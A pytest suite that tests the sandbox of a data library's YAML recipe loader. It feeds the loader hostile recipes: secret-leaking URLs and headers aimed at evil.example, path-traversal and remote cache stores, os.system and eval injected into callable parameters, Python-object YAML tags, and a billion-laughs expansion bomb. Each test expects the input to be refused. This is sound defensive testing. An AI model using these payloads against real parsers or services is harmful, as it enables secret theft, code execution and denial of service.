"""The recipe sandbox: a shared recipe cannot reach your environment, write outside its root, name code or blow up.

A recipe is a YAML file someone else may have written (issue #18). Each class
of attack is tried in several forms, beyond the reported examples:

1. ``${ENV}`` values into URLs, hosts, paths, queries, headers, ``where=``,
   function arguments, loader settings, cache stores; odd forms
   (``$${X}``, ``${X:-d}``, ``${}``, an unclosed ``${``); only the names the
   user allows expand, and their values are never expanded again.
2. Writes outside the recipe's root: ``..``, absolute paths, ``~``,
   ``file://`` and remote URLs, symbolic links (also made after loading),
   ``open_files`` in a writing mode; a plain relative store lands in the
   recipe's folder, and ``root=`` widens the root.
3. Code through any stage: every parameter of every registered stage whose
   annotation holds a ``Callable`` (or that is named ``fn``/``*_fn``) is found
   by walking the signatures here and given ``os.system``; ``fork``,
   ``demux``, ``**kwargs`` stages, ``*args`` of callables, classes,
   executors, locks, dotted paths.
4. YAML that grows: a "billion laughs" file (in a subprocess, with a
   deadline and a bound on its resident memory), self-referencing anchors,
   10,000 levels of nesting, huge scalars, many keys, files that are not
   text or not files.
"""

from __future__ import annotations

import collections.abc
import os
import subprocess
import sys
import textwrap
import time
import tracemalloc
import typing
from pathlib import Path

import pytest

import terrapipe as tp
from terrapipe.core.errors import RecipeError
from terrapipe.recipes import load_recipe
from terrapipe.recipes.stages import (
    code_slot,
    ensure_registered,
    stage_class,
    stage_hints,
    stage_names,
    stage_parameters,
)
from terrapipe.recipes.yaml_source import MAX_DEPTH, MAX_NODES, MAX_RECIPE_BYTES

SECRET = "s3cr3t-VALUE-9f2c"
HEAD = "version: 1\nname: t\ninputs:\n  main:\n"


def _write(folder: Path, body: str, name: str = "r.yaml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(body, encoding="utf-8")
    return path


def _steps(*steps: str, source: str = "{items: [1]}") -> str:
    return HEAD + f"    source: {source}\n    steps:\n" + "".join(f"      - {s}\n" for s in steps)


# -- 1. ${ENV} reaches nothing the user did not allow ----------------------------------------------------

#: Where a recipe might put a variable: (recipe text, line, key named in the error).
ENV_PLACES = {
    "url query of an item": (
        HEAD + "    source: {items: ['https://evil.example/a.tif?k=${TP_SANDBOX_SECRET}']}\n",
        5,
        "items[0]",
    ),
    "host": (
        HEAD + "    source: {items: ['https://${TP_SANDBOX_SECRET}.evil.example/a.tif']}\n",
        5,
        "items[0]",
    ),
    "partial url": (
        HEAD + "    source: {items: ['https://evil.example/${TP_SANDBOX_SECRET}']}\n",
        5,
        "items[0]",
    ),
    "local path": (HEAD + "    source: {items: ['./data/${TP_SANDBOX_SECRET}.tif']}\n", 5, "items[0]"),
    "stac api url": (
        HEAD
        + "    source:\n      search_stac:\n        catalog: 'https://evil.example/${TP_SANDBOX_SECRET}'\n",
        7,
        "search_stac.catalog",
    ),
    "stac query": (
        HEAD + "    source:\n      search_stac:\n        catalog: https://a.example\n"
        "        query: {note: {eq: '${TP_SANDBOX_SECRET}'}}\n",
        8,
        "query.note.eq",
    ),
    "header sent to a host the recipe chose": (
        HEAD + "    source:\n      search_stac:\n        catalog: https://evil.example/stac\n"
        "        headers: {Authorization: 'Bearer ${TP_SANDBOX_SECRET}'}\n",
        8,
        "headers.Authorization",
    ),
    "storage credential": (
        _steps("read_zarr: {storage_options: {secret: '${TP_SANDBOX_SECRET}', anon: false}}"),
        7,
        "storage_options.secret",
    ),
    "where clause": (_steps("read_vector: {where: \"name = '${TP_SANDBOX_SECRET}'\"}"), 7, "where"),
    "function argument": (
        _steps("map: {fn: {drop_keys: {keys: ['${TP_SANDBOX_SECRET}']}}}"),
        7,
        "drop_keys.keys[0]",
    ),
    "step args": (_steps("zip: {args: ['${TP_SANDBOX_SECRET}']}"), 7, "args[0]"),
    "loader setting": (
        HEAD + "    source: {items: [1]}\nloader: {multiprocessing_context: '${TP_SANDBOX_SECRET}'}\n",
        6,
        "multiprocessing_context",
    ),
    "cache store": (_steps("cache: {store: './c/${TP_SANDBOX_SECRET}'}"), 7, "store"),
    "double dollar": (
        HEAD + "    source: {items: ['https://evil.example/$${TP_SANDBOX_SECRET}']}\n",
        5,
        "items[0]",
    ),
    "two variables": (
        HEAD + "    source: {items: ['https://evil.example/${TP_SANDBOX_OK}/${TP_SANDBOX_SECRET}']}\n",
        5,
        "items[0]",
    ),
}


@pytest.mark.parametrize("place", list(ENV_PLACES))
def test_a_variable_the_user_did_not_allow_is_refused_at_load(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TP_SANDBOX_SECRET", SECRET)
    monkeypatch.setenv("TP_SANDBOX_OK", "fine")
    body, line, key = ENV_PLACES[place]
    path = _write(tmp_path, body)
    with pytest.raises(RecipeError) as info:
        load_recipe(path, allow_env={"TP_SANDBOX_OK"})
    text = str(info.value)
    assert "environment variable TP_SANDBOX_SECRET is not allowed" in text
    assert f"{path}, line {line}:" in text
    assert key in text
    assert "--allow-env TP_SANDBOX_SECRET" in text
    assert SECRET not in text


@pytest.mark.parametrize("place", list(ENV_PLACES))
def test_a_variable_the_user_allowed_expands_and_stays_hidden(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TP_SANDBOX_SECRET", SECRET)
    monkeypatch.setenv("TP_SANDBOX_OK", "fine")
    recipe = load_recipe(
        _write(tmp_path, ENV_PLACES[place][0]), allow_env=["TP_SANDBOX_SECRET", "TP_SANDBOX_OK"]
    )
    assert SECRET not in repr(recipe)
    assert SECRET not in str(recipe.inputs)
    assert "${TP_SANDBOX_SECRET}" in str(recipe.inputs) + str(recipe.loader_settings)


def test_allowed_values_are_not_expanded_again_and_dollar_forms_are_plain(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TP_SANDBOX_OUTER", "${TP_SANDBOX_SECRET}")
    monkeypatch.setenv("TP_SANDBOX_SECRET", SECRET)
    body = (
        HEAD
        + "    source: {items: ['${TP_SANDBOX_OUTER}', '$TP_SANDBOX_SECRET', 'cost: $5', '$${TP_SANDBOX_OUTER}']}\n"
    )
    recipe = load_recipe(_write(tmp_path, body), allow_env={"TP_SANDBOX_OUTER"})
    assert list(recipe.build()) == [
        "${TP_SANDBOX_SECRET}",
        "$TP_SANDBOX_SECRET",
        "cost: $5",
        "$${TP_SANDBOX_SECRET}",
    ]


@pytest.mark.parametrize(
    "form",
    ["${TP_SANDBOX_SECRET:-default}", "${}", "${1ABC}", "https://x/${TP_SANDBOX_SECRET", "${A-B}", "${ X }"],
)
def test_unsupported_variable_forms_are_errors_not_text(
    form: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TP_SANDBOX_SECRET", SECRET)
    path = _write(tmp_path, HEAD + f"    source: {{items: ['{form}']}}\n")
    with pytest.raises(RecipeError, match=r"line 5: .* is not a variable: recipes only know \$\{NAME\}"):
        load_recipe(path, allow_env={"TP_SANDBOX_SECRET", "A", "X"})


def test_a_missing_variable_names_itself_and_how_to_allow_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("TP_SANDBOX_UNSET", raising=False)
    path = _write(tmp_path, HEAD + "    source: {items: ['${TP_SANDBOX_UNSET}']}\n")
    with pytest.raises(RecipeError, match=r"TP_SANDBOX_UNSET is not set .*--allow-env TP_SANDBOX_UNSET"):
        load_recipe(path)


@pytest.mark.parametrize(
    "step",
    [
        "read_zarr: {storage_options: {endpoint_url: 'https://evil.example'}}",
        "read_zarr: {storage_options: {client_kwargs: {endpoint_url: 'https://evil.example'}}}",
        "read_zarr: {storage_options: {config_kwargs: {proxies: {https: 'http://evil.example'}}}}",
        "read_zarr: {storage_options: {account_host: evil.example}}",
        "read_samples: {storage_options: {ENDPOINT: 'https://evil.example'}}",
        "open_xarray: {storage_options: {endpoint: 'https://evil.example'}}",
        "open_xarray: {backend_kwargs: {storage_options: {base_url: 'https://evil.example'}}}",
    ],
)
def test_storage_options_cannot_send_ambient_credentials_elsewhere(step: str, tmp_path: Path) -> None:
    path = _write(tmp_path, _steps(step))
    with pytest.raises(RecipeError, match=r"line \d+: .*storage option '\w+' would send requests"):
        load_recipe(path)


def test_the_cli_allows_variables_by_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from terrapipe.cli import main

    monkeypatch.setenv("TP_SANDBOX_SECRET", SECRET)
    path = _write(tmp_path, HEAD + "    source: {items: ['${TP_SANDBOX_SECRET}']}\n")
    with pytest.raises(SystemExit) as refused:
        main(["graph", str(path)])
    assert refused.value.code != 0
    assert "--allow-env TP_SANDBOX_SECRET" in capsys.readouterr().err
    main(["graph", str(path), "--allow-env", "TP_SANDBOX_SECRET"])
    shown = capsys.readouterr()
    assert "flowchart LR" in shown.out
    assert SECRET not in shown.out + shown.err


# -- 2. writes stay inside the root --------------------------------------------------------------------

DROP_A = "map: {fn: {drop_keys: {keys: [a]}}}"


@pytest.mark.parametrize(
    "store",
    [
        "../../x.zarr",
        "../x.zarr",
        "./a/../../x.zarr",
        "/tmp/tp-sandbox-outside.zarr",
        "~/tp-sandbox.zarr",
        "~root/x.zarr",
        "file:///tmp/tp-sandbox-outside.zarr",
        "file://evil.example/x.zarr",
        "s3://bucket/x.zarr",
        "gs://bucket/x.zarr",
        "redis://evil.example:6379/0",
        "unix:///tmp/redis.sock",
        "http://evil.example/cache",
        "memory://x",
    ],
)
def test_a_cache_store_outside_the_root_is_refused(store: str, tmp_path: Path) -> None:
    path = _write(tmp_path / "proj" / "recipes", _steps(f"cache: {{store: '{store}'}}"))
    with pytest.raises(RecipeError) as info:
        load_recipe(path)
    text = str(info.value)
    assert f"{path}, line 7:" in text
    assert "store" in text
    assert not list(tmp_path.rglob("*.zarr"))


@pytest.mark.parametrize("store", [{"a": 1}, [1], 3, ""])
def test_a_cache_store_must_be_a_folder_name(store: object, tmp_path: Path) -> None:
    path = _write(tmp_path, _steps(f"cache: {{store: {store!r}}}"))
    with pytest.raises(RecipeError, match=r"line 7: .*store must be a folder"):
        load_recipe(path)


def test_a_symlink_leading_out_of_the_root_is_refused_at_load_and_at_build(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "recipe"
    path = _write(folder, _steps("cache: {store: link/cache.zarr}"))
    (folder / "link").symlink_to(outside, target_is_directory=True)
    with pytest.raises(RecipeError, match="outside the recipe's root"):
        load_recipe(path)
    # a link made after the recipe was checked is caught when it is built
    (folder / "link").unlink()
    (folder / "link").mkdir()
    recipe = load_recipe(path)
    (folder / "link").rmdir()
    (folder / "link").symlink_to(outside, target_is_directory=True)
    with pytest.raises(RecipeError, match="outside the recipe's root"):
        recipe.build()
    assert not list(outside.iterdir())


def test_a_relative_store_lands_in_the_recipe_folder_not_the_working_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    folder = tmp_path / "recipe"
    body = _steps("cache_point", DROP_A, "cache: {store: cache.zarr}", source="{items: [{a: 1, b: 2}]}")
    recipe = load_recipe(_write(folder, body))
    assert list(recipe.build()) == [{"b": 2}]
    assert (folder / "cache.zarr").exists()
    assert not (work / "cache.zarr").exists()


def test_root_widens_where_a_recipe_may_write(tmp_path: Path) -> None:
    body = _steps("cache_point", DROP_A, "cache: {store: ../caches/c.zarr}", source="{items: [{a: 1, b: 2}]}")
    path = _write(tmp_path / "proj" / "recipes", body)
    with pytest.raises(RecipeError, match="outside the recipe's root"):
        load_recipe(path)
    recipe = load_recipe(path, root=tmp_path / "proj")
    assert list(recipe.build()) == [{"b": 2}]
    assert (tmp_path / "proj" / "caches" / "c.zarr").exists()


def test_text_recipes_write_under_the_working_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(RecipeError, match="outside the recipe's root"):
        load_recipe(text=_steps("cache: {store: ../x.zarr}"))
    assert load_recipe(text=_steps("cache: {store: ./x.zarr}")).root == tmp_path.resolve()


def test_an_allowed_variable_cannot_carry_a_store_out_of_the_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TP_SANDBOX_DIR", "../../elsewhere-s3cr3t")
    path = _write(tmp_path / "a" / "b", _steps("cache: {store: '${TP_SANDBOX_DIR}/c.zarr'}"))
    with pytest.raises(RecipeError, match="outside the recipe's root") as info:
        load_recipe(path, allow_env={"TP_SANDBOX_DIR"})
    assert "${TP_SANDBOX_DIR}/c.zarr" in str(info.value)
    assert "s3cr3t" not in str(info.value)


@pytest.mark.parametrize("mode", ["w", "wb", "a", "ab", "x", "r+", "rb+", "w+"])
def test_open_files_only_reads(mode: str, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    path = _write(
        tmp_path / "r", _steps(f"open_files: {{mode: '{mode}'}}", source=f"{{items: ['{victim}']}}")
    )
    with pytest.raises(RecipeError, match=r"line 7: .*would write; a recipe opens files only for reading"):
        load_recipe(path).build()
    assert victim.read_text() == "keep me"


def test_reading_outside_the_root_is_allowed(tmp_path: Path) -> None:
    data = tmp_path / "data.txt"
    data.write_text("x")
    path = _write(
        tmp_path / "r", _steps("open_files: {mode: r}", source=f"{{items: ['{data}', '../data.txt']}}")
    )
    names = [name for name, stream in load_recipe(path).build() if not stream.close()]
    assert names == [str(data), str(data)]


def test_every_stage_parameter_that_names_a_destination_is_checked() -> None:
    """A new stage parameter that looks like a place to write must be added to WRITE_PARAMETERS (or here)."""
    from terrapipe.recipes.values import WRITE_PARAMETERS

    ensure_registered()
    reviewed_not_writes = {
        ("chip", "output"),  # 'tensor' or 'numpy'
        ("sample_windows", "output"),
        ("map", "output_col"),  # a key of the element
        ("read_raster", "cache"),  # an in-memory block cache (bool)
        ("read_zarr", "cache"),
        ("chip", "block_cache_bytes"),  # memory bounds
        ("sample_windows", "block_cache_bytes"),
        ("slice_with_xbatcher", "block_cache_bytes"),
    }
    suspicious = {
        "store",
        "out",
        "output",
        "dest",
        "destination",
        "target",
        "save",
        "write",
        "cache",
        "path",
        "dir",
    }
    found = {
        (stage, name)
        for stage in stage_names()
        for name in stage_parameters(stage)
        if suspicious & set(name.lower().split("_"))
    }
    listed = {(stage, key) for stage, keys in WRITE_PARAMETERS.items() for key in keys}
    assert found - listed - reviewed_not_writes == set()


# -- 3. code only through the allowlist, through every stage ------------------------------------------


def _takes_callable(hint: object) -> bool:
    """Independent of the code under test: a Callable (or a class) anywhere inside an annotation."""
    origin = typing.get_origin(hint)
    if hint in (collections.abc.Callable, typing.Callable, type) or origin in (
        collections.abc.Callable,
        type,
    ):
        return True
    return any(_takes_callable(arg) for arg in typing.get_args(hint))


def _callable_parameters() -> list[tuple[str, str]]:
    ensure_registered()
    found = []
    for stage in stage_names():
        hints = stage_hints(stage)
        for name, param in stage_parameters(stage).items():
            text = str(param.annotation)
            if _takes_callable(hints.get(name)) or "Callable" in text or name == "fn" or name.endswith("_fn"):
                found.append((stage, name))
    return found


def test_the_signature_walk_finds_the_known_callable_slots() -> None:
    found = set(_callable_parameters())
    for expected in [
        ("map", "fn"),
        ("filter", "filter_fn"),
        ("flatmap", "fn"),
        ("pmap", "fn"),
        ("demux", "classifier_fn"),  # torch's __new__, behind a bare *args/**kwargs __init__
        ("groupby", "group_key_fn"),
        ("routed_decode", "handlers"),
        ("routed_decode", "key_fn"),
        ("collate", "conversion"),
        ("collate", "collate_fn"),
        ("cache", "key"),
        ("batch", "wrapper_class"),
    ]:
        assert expected in found


@pytest.mark.parametrize(("stage", "name"), _callable_parameters())
@pytest.mark.parametrize(
    "value", ["os.system", "builtins.eval", "subprocess.Popen", "{os.system: {}}", "[scale]"]
)
def test_every_callable_parameter_of_every_stage_takes_only_allowlisted_functions(
    stage: str, name: str, value: str, tmp_path: Path
) -> None:
    param = stage_parameters(stage)[name]
    assert code_slot(name, param, stage_hints(stage).get(name)) in ("function", "code")
    step = (
        f"{stage}: {{args: [{value}]}}"
        if param.kind is param.VAR_POSITIONAL
        else f"{stage}: {{{name}: {value}}}"
    )
    path = _write(tmp_path, _steps(step))
    marker = tmp_path / "ran"
    with pytest.raises(
        RecipeError, match=r"line 7: .*(is not a recipe function|takes code|must name a recipe)"
    ):
        load_recipe(path).build()
    assert not marker.exists()


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("fork: {num_instances: 2, fn: os.system}", "unknown key 'fn'"),
        ("demux: {num_instances: 2, classifier_fn: os.system}", "'os.system' is not a recipe function"),
        ("demux: {num_instances: 2, classifier_fn: os.path.join}", "is not a recipe function"),
        ("open_xarray: {preprocess: os.system}", "'os.system' is not a recipe function"),
        ("open_xarray: {decoder_fn: builtins.exec}", "is not a recipe function"),
        ("open_xarray: {fn: {os.system: {}}}", "is not a recipe function"),
        ("map: {fn: terrapipe.recipes.functions.scale}", "is not a recipe function"),
        ("map: {fn: __import__}", "is not a recipe function"),
        ("map: {fn: 3}", "fn must name a recipe function"),
        ("map: {fn: null}", "fn must name a recipe function"),
        ("filter: {filter_fn: [nonempty]}", "filter_fn must name a recipe function"),
        ("batch: {batch_size: 2, wrapper_class: builtins.dict}", "'wrapper_class' takes code"),
        ("pmap: {fn: nonempty, executor: os.system}", "'executor' takes code"),
        ("pmap: {fn: nonempty, executor: {submit: os.system}}", "'executor' takes code"),
        (
            "map: {fn: {scale: {factor: 2, __class__: os.system}}}",
            "function 'scale' has no argument '__class__'",
        ),
        ("map: {fn: {scale: {factor: os.system}}}", "function 'scale': 'factor' must be float"),
        ("map: {fn: scale}", "function 'scale' needs 'factor'"),
        ("map: {fn: {scale: [os.system]}}", "arguments of function 'scale' must be a mapping"),
        ("read_raster: {lock: os.system}", "'lock' takes code"),
        ("search_stac: {catalog: x, modifier: os.system}", "'modifier' takes code"),
        ("search_stac: {catalog: x, request_modifier: os.system}", "'request_modifier' takes code"),
        ("cache: {store: c.zarr, key: os.system}", "'os.system' is not a recipe function"),
        ("routed_decode: {args: [os.system]}", "'os.system' is not a recipe function"),
        ("sample_windows: {size: 4, weights: [os.system]}", "weights must name a recipe function"),
        ("sample_windows: {size: 4, weights: os.system}", "'os.system' is not a recipe function"),
    ],
)
def test_code_through_any_door_is_refused(step: str, expected: str, tmp_path: Path) -> None:
    path = _write(tmp_path, _steps(step))
    with pytest.raises(RecipeError, match="line 7") as info:
        load_recipe(path).build()
    assert expected in str(info.value)


def test_plain_data_still_fits_parameters_that_also_take_code(tmp_path: Path) -> None:
    body = _steps(
        "sample_windows: {size: 4, n: 2, weights: [1.0, 2]}",
        "to_tensor: {device: cpu}",
        "to_device: {device: cpu}",
        "cache_point",
        DROP_A,
        "cache: {store: c.zarr, key: null}",
        source="{items: []}",
    )
    recipe = load_recipe(_write(tmp_path, body))
    assert recipe.inputs["main"][1][0].functions == ()
    recipe.build()


def test_allowlisted_functions_work_in_every_kind_of_slot(tmp_path: Path) -> None:
    body = _steps(
        "demux: {num_instances: 1, classifier_fn: {nonempty: {key: a}}}",
        "read_raster: {lock: true}",
        "batch: {batch_size: 1}",
        source="{items: [{a: [1]}]}",
    )
    recipe = load_recipe(_write(tmp_path, body))
    assert recipe.inputs["main"][1][0].functions == ("classifier_fn",)
    assert stage_class("demux") is not None


# -- 4. bounded YAML ---------------------------------------------------------------------------------


def _laughs(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels + 1):
        refs = ",".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return HEAD + "    source: {items: [1]}\n" + "\n".join(f"x{line}" for line in lines) + "\n"


def test_billion_laughs_fails_fast_in_bounded_memory(tmp_path: Path) -> None:
    """In a child process with a deadline: the resident memory it adds is measured, not guessed."""
    path = _write(tmp_path, _laughs(), "laughs.yaml")
    assert path.stat().st_size < 700  # 9**10 'lol's once expanded
    code = textwrap.dedent(
        f"""
        import resource, sys, time
        import terrapipe as tp
        from terrapipe.recipes.stages import ensure_registered
        ensure_registered()
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        start = time.perf_counter()
        try:
            tp.load_recipe({str(path)!r})
        except tp.RecipeError as err:
            print("ERR", err)
        grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
        print("GROWN_KIB", grown, "SECONDS", round(time.perf_counter() - start, 2))
        """
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    assert f"ERR {path}, line " in done.stdout
    assert f"more than {MAX_NODES:,} values" in done.stdout
    grown = int(done.stdout.split("GROWN_KIB ")[1].split()[0])
    seconds = float(done.stdout.split("SECONDS ")[1].split()[0])
    assert grown < 64 * 1024, done.stdout  # KiB: the old code grew by gigabytes
    assert seconds < 20, done.stdout


@pytest.mark.parametrize(
    "body",
    [
        "x: &a [*a]\n",
        "x: &a {b: *a}\n",
        "x: &a [1, {b: [2, *a]}]\n",
        "x: &a [&b [*a]]\n",
        "x: &a {<<: *a}\n",
    ],
)
def test_a_self_referencing_anchor_is_a_recipe_error(body: str, tmp_path: Path) -> None:
    path = _write(tmp_path, HEAD + "    source: {items: [1]}\n" + body)
    with pytest.raises(RecipeError, match=rf"{path.name}, line 6: ") as info:
        load_recipe(path)
    assert not isinstance(info.value.__cause__, RecursionError)


def _short(i: int) -> str:
    """A short unique key: base 26 letters."""
    text = ""
    while True:
        i, r = divmod(i, 26)
        text += chr(97 + r)
        if not i:
            return text


def _measure(call: typing.Callable[[], object]) -> tuple[float, int]:
    tracemalloc.start()
    start = time.perf_counter()
    try:
        call()
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return time.perf_counter() - start, peak


@pytest.mark.parametrize(
    ("name", "body", "expected"),
    [
        ("flow nesting", "x: " + "[" * 10_000 + "]" * 10_000 + "\n", f"nest more than {MAX_DEPTH} deep"),
        ("flow nesting, unclosed", "x: " + "{a: " * 10_000 + "\n", f"nest more than {MAX_DEPTH} deep"),
        ("flow nesting, 100", "x: " + "[" * 100 + "]" * 100 + "\n", f"nest more than {MAX_DEPTH} deep"),
        ("block lists", "x:\n" + "- " * 10_000 + "1\n", f"nest more than {MAX_DEPTH} deep"),
        (
            "block mappings",
            "x:\n" + "".join(" " * i + "a:\n" for i in range(1, 500)),
            f"more than {MAX_DEPTH}",
        ),
        (
            "block mappings, 10k",
            "x:\n" + "".join(" " * i + "a:\n" for i in range(1, 10_000)),
            "over the limit",
        ),
        ("aliases nest deep", "".join(f"a{i}: &a{i} [*a{i - 1}]\n" for i in range(1, 80)), "nest more than"),
        ("huge scalar", "x: '" + "y" * (MAX_RECIPE_BYTES + 10) + "'\n", "over the limit"),
        ("many values", "x: [" + "0," * 60_000 + "0]\n", f"more than {MAX_NODES:,} values"),
        (
            "long string repeated",
            "s: &s '" + "y" * 100_000 + "'\nb: [" + "*s," * 19 + "*s]\n",
            "characters (MAX_TEXT)",
        ),
        ("integer of 5,000 digits", "x: " + "1" * 5000 + "\n", "cannot read value"),
        ("many keys", "x: {" + ", ".join(f"k{_short(i)}: 0" for i in range(28_000)) + "}\n", "more than"),
    ],
)
def test_big_or_deep_yaml_is_refused_in_bounded_time_and_memory(
    name: str, body: str, expected: str, tmp_path: Path
) -> None:
    text = HEAD + "    source: {items: [1]}\n" + ("a-1: &a0 [1]\n" if "aliases" in name else "") + body
    path = _write(tmp_path, text)

    def load() -> None:
        with pytest.raises(RecipeError, match=rf"{path.name}, line \d+: ") as info:
            load_recipe(path)
        assert expected in str(info.value), str(info.value)[:300]

    seconds, peak = _measure(load)
    assert seconds < 30, name  # under tracemalloc, on a shared 2-CPU machine
    assert peak < 64 * 2**20, name


def test_a_huge_or_endless_file_is_not_read_whole(tmp_path: Path) -> None:
    path = tmp_path / "huge.yaml"
    with path.open("wb") as handle:
        handle.write(b"version: 1\nname: '")
        handle.seek(64 * 2**20)
        handle.write(b"'\n")

    def load() -> None:
        with pytest.raises(
            RecipeError, match=r"huge\.yaml, line 2: the recipe is 262,145 bytes, over the limit"
        ):
            load_recipe(path)

    seconds, peak = _measure(load)
    assert peak < 16 * 2**20
    assert seconds < 10
    if Path("/dev/zero").exists():
        with pytest.raises(RecipeError, match="not a regular file"):
            load_recipe(Path("/dev/zero"))
    with pytest.raises(RecipeError, match="not a regular file"):
        load_recipe(tmp_path)


@pytest.mark.parametrize(
    "kwargs",
    [
        {"path": 3},
        {"path": b"r.yaml"},
        {"path": ["r.yaml"]},
        {"text": b"version: 1"},
        {"path": "climate-forecasting", "allow_env": 3},
        {"path": "climate-forecasting", "allow_env": ["NOT A NAME"]},
        {"path": "climate-forecasting", "allow_env": [None]},
        {"path": "climate-forecasting", "root": 3},
    ],
)
def test_load_recipe_checks_its_own_arguments(kwargs: dict[str, object]) -> None:
    with pytest.raises(RecipeError, match="load_recipe: "):
        load_recipe(**kwargs)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("batch: {batch_size: -1}", "Batch size is required to be larger than 0! (AssertionError)"),
        ("shuffle: {buffer_size: -1}", "buffer_size should be larger than 0 (AssertionError)"),
    ],
)
def test_a_stage_refusing_its_recipe_values_is_a_recipe_error(
    step: str, expected: str, tmp_path: Path
) -> None:
    path = _write(tmp_path, _steps(step))
    with pytest.raises(RecipeError, match="line 7: ") as info:
        load_recipe(path).build()
    assert expected in str(info.value)


def test_an_unclosed_bracket_names_the_line_it_opened(tmp_path: Path) -> None:
    path = _write(tmp_path, HEAD + "    source: {items: [1, 2}\n    steps: []\n")
    with pytest.raises(RecipeError, match=r"r\.yaml, line 5: not valid YAML"):
        load_recipe(path)


def test_a_file_that_is_not_utf8_is_a_recipe_error(tmp_path: Path) -> None:
    path = tmp_path / "latin.yaml"
    path.write_bytes(b"version: 1\nname: caf\xe9\n")
    with pytest.raises(RecipeError, match=r"latin\.yaml, line 2: a recipe is UTF-8 text"):
        load_recipe(path)


@pytest.mark.parametrize(
    "body",
    [
        "x: !!python/object:os.system {a: 1}\n",
        "x: !!python/object/apply:os.system [echo]\n",
        "x: !!set {a, b}\n",
        "x: !custom [1]\n",
    ],
)
def test_tags_on_mappings_and_lists_are_refused(body: str, tmp_path: Path) -> None:
    path = _write(tmp_path, HEAD + "    source: {items: [1]}\n" + body)
    with pytest.raises(RecipeError, match=r"line 6: tag '.*' is not plain data"):
        load_recipe(path)


@pytest.mark.parametrize("body", ["? [1]\n: 2\n", "? {a: 1}\n: 2\n", "x: &k a\n*k : 1\n", "1: 2\n", "~: 1\n"])
def test_keys_are_plain_strings(body: str, tmp_path: Path) -> None:
    path = _write(tmp_path, HEAD + "    source: {items: [1]}\n" + body)
    with pytest.raises(RecipeError, match=r"line \d+: .*(keys must be strings|unknown key)"):
        load_recipe(path)


def test_the_bundled_recipes_stay_inside_the_bounds() -> None:
    for name, path in tp.recipes.bundled_recipes().items():
        recipe = load_recipe(path)
        assert recipe.root == path.parent.resolve(), name
        assert path.stat().st_size < MAX_RECIPE_BYTES // 16
    assert os.sep  # the names above are loaded, not only listed
